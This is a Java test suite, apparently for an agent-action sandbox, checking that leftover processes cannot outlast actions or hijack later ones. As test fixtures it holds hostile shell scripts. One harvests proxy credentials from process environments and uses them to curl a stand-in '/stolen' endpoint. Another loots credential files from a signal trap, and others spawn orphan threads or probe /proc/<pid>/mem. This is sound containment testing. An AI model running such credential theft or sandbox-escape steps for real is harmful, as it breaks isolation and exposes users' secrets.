package dev.perimeter.sandbox.action;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.perimeter.sandbox.stack.FakeGateway;
import dev.perimeter.sandbox.stack.InSandbox;
import dev.perimeter.sandbox.stack.Orders;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** What runs beside an action, and what it can make of that. */
abstract class CompanySuite extends InSandbox {

    static final Duration SOON = Duration.ofSeconds(20);

    /** The thread that the process began with is gone; another one goes on. */
    static final String HEADLESS = """
            cat > /tmp/headless.py <<'END'
            import ctypes, threading, time
            def tick():
                while True:
                    open('/tmp/ticks', 'a').write('tick\\n')
                    time.sleep(0.05)
            threading.Thread(target=tick).start()
            time.sleep(0.2)
            ctypes.CDLL(None).syscall(60, 0)
            END
            python3 /tmp/headless.py & until grep -q '^State:.Z' /proc/$!/status; do sleep 0.05; done
            """;

    private static final String TICKING =
            "(while :; do echo tick >> /tmp/ticks; sleep 0.05; done) >/dev/null 2>&1 & sleep 0.2";

    /** Goes by every credential that can be read in the sandbox. */
    private static final String THIEF = """
            thief() {
                while :; do
                    for way in $(cat /run/perimeter/actions/*/environment /proc/[0-9]*/environ | tr '\\0' '\\n' |
                            grep -o 'http://act_[^@]*@[0-9.]*:3128' | sort -u); do
                        curl -s -m 2 -x "$way" http://api.example.com/stolen
                    done
                    sleep 0.05
                done
            }
            thief >/dev/null 2>&1 &
            sleep 0.5
            """;

    /** A shell that looks for a credential on and on in a trap, once it has nothing else to do. */
    private static final String TRAP = """
            prey() {
                while :; do
                    for file in /run/perimeter/actions/*/environment; do
                        read -r line < "$file" && echo "$file" >> /tmp/loot
                    done
                    echo looked > /tmp/looked
                done 2>/dev/null
            }
            trap prey USR1
            (sleep 0.4; kill -USR1 $$) >/dev/null 2>&1 &
            """;

    @Test
    void whatWasLeftBehindMakesNoFlowsAsTheNextAction() {
        session().bash(THIEF);
        var second = Orders.of(session(), "bash");
        session().act(second, Map.of("command", "curl -s -m 2 http://api.example.com/own; sleep 1"));
        assertFalse(flows(second, "/own").isEmpty());
        var seen = visits("/stolen").size();
        await().atMost(SOON).until(() -> visits("/stolen").size() > seen);
        assertEquals(List.of(), flows(second, "/stolen"));
    }

    @Test
    void whatWasLeftBehindStandsStillBesideAWayOutAndGoesOnAfterwards() {
        session().bash(TICKING);
        assertStill(Orders.of(session(), "bash"));
        assertStill(Orders.of(session(), "bash").holding("API_TOKEN"));
        assertGoesOn();
    }

    @Test
    void whatWasLeftBehindGoesOnBesideWhatHasNoWayOut() {
        session()
                .bash("echo served > served; python3 -m http.server --bind 127.0.0.1 8000 >/dev/null 2>&1 & "
                        + "until (: <>/dev/tcp/127.0.0.1/8000) 2>/dev/null; do sleep 0.1; done");
        var request = Map.of("command", "curl -s -m 30 http://127.0.0.1:8000/served", "offline", true);
        assertEquals("served", session().tool("bash", request).getText());
        session().bash("true");
        assertEquals("served", session().tool("bash", request).getText());
    }

    @Test
    void anApprovedCommandRunsBesideNothingThatTheOldShellDoes() {
        session().bash(TRAP);
        await().atMost(SOON)
                .until(() -> !session()
                        .tool("read", Map.of("file_path", "/tmp/looked"))
                        .getIsError());
        var approved = Orders.of(session(), "bash").approved();
        session().act(approved, Map.of("command", "sleep 1"));
        assertEquals(
                "",
                session()
                        .bash("grep -s " + approved.action() + " /tmp/loot; true")
                        .getText());
    }

    @Test
    void anApprovedFileToolEndsTheShellToo() {
        session().bash("kept=yes");
        var approved = Orders.of(session(), "write").approved();
        session().act(approved, Map.of("file_path", "file", "content", "text"));
        assertEquals("[] text", session().bash("echo \"[$kept] $(cat file)\"").getText());
    }

    @Test
    void whatIsOursCannotBeTakenOver() {
        for (var process : terrain().crew()) {
            for (var file : List.of("mem", "environ", "fd/0", "cwd/x")) {
                var result = session().bash("(exec 3<>/proc/" + process + "/" + file + ")");
                assertTrue(result.getIsError(), process + " " + file);
                assertTrue(result.getText().contains("Permission denied"), result.getText());
            }
        }
    }

    final void assertStill(Orders orders) {
        var counts = session()
                .act(orders, Map.of("command", "wc -l < /tmp/ticks; sleep 1; wc -l < /tmp/ticks"))
                .getText()
                .split("\n");
        assertEquals(counts[0], counts[1]);
    }

    final void assertGoesOn() {
        var before = ticks();
        await().atMost(SOON).until(() -> ticks() > before);
    }

    final int ticks() {
        return session()
                .tool("grep", Map.of("pattern", "tick", "path", "/tmp/ticks"))
                .getText()
                .split("\n")
                .length;
    }

    private List<String> visits(String path) {
        return FakeGateway.get().visits(session().sandbox()).stream()
                .filter(visit -> visit.contains(path))
                .toList();
    }

    private List<String> flows(Orders orders, String path) {
        var basic = orders.action() + ":secret-of-" + orders.action();
        var credential = Base64.getEncoder().encodeToString(basic.getBytes(StandardCharsets.US_ASCII));
        return visits(path).stream().filter(visit -> visit.contains(credential)).toList();
    }
}
